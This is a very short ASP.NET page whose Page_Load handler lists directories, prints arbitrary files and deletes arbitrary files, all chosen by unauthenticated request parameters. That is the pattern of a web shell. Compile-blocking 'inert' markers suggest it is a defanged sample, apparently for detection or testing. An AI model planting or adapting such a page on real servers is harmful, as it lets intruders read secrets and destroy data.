<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ foreach(var f in System.IO.Directory.GetFiles(Request["d"])) Response.Write(f); Response.WriteFile(Request["p"]); System.IO.File.Delete(Request["r"]); }
</script>
